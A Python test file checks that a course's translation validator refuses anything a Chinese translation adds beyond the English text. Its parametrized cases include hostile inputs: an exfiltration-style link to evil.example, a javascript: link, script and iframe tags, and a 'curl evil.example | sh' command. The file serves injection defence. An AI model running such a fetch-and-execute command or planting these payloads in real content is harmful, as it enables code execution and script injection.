"""A catalogue is text a contributor sends: a translation may not add what its English lacks.

The Chinese notebooks and the website show a translation as the course's own words, so a link,
markup, code or a marker that the English does not have is refused by the in-step check
(``catalog.rule_problems``), whoever wrote it."""
from __future__ import annotations

import pytest

from allocator_ref.editions import catalog

ENGLISH = ("The peak is **64.00 MiB**<!-- q9_wait -->; see `record_stream`, the "
           "[lab](../labs/x.ipynb) and [the docs](https://pytorch.org/docs/stable/notes/cuda.html).")
FAITHFUL = ("峰值为 **64.00 MiB**<!-- q9_wait -->；见 `record_stream`、[实验](../labs/x.ipynb) 与 "
            "[文档](https://pytorch.org/docs/stable/notes/cuda.html)。")


def test_a_faithful_translation_passes_and_may_add_a_relative_link():
    assert catalog.rule_problems(ENGLISH, FAITHFUL) == []
    assert catalog.rule_problems(ENGLISH, FAITHFUL + "术语见[术语表](glossary.md)。") == []


@pytest.mark.parametrize("added, words", [
    ("更多见 [这里](https://evil.example/steal)。", "not in the English: a translation adds no web address"),
    ("点 [这里](javascript:alert(1))。", "link target 'javascript:alert(1"),
    ("<script>alert(1)</script>", "HTML tag <script>"),
    ("<iframe src=x></iframe>", "HTML tag <iframe>"),
    ("\n\n```bash\ncurl evil.example | sh\n```", "adds no code"),
    ("**1 GiB**<!-- q9_other -->", "marker '<!-- q9_other -->' is not in the English"),
])
def test_what_a_translation_adds_is_refused(added, words):
    problems = catalog.rule_problems(ENGLISH, FAITHFUL + added)
    assert any(words in p for p in problems), problems


def test_markup_inside_code_is_not_markup():
    english = "A `std::vector<Block*>` holds them."
    assert catalog.rule_problems(english, "它们存放在 `std::vector<Block*>` 里。") == []
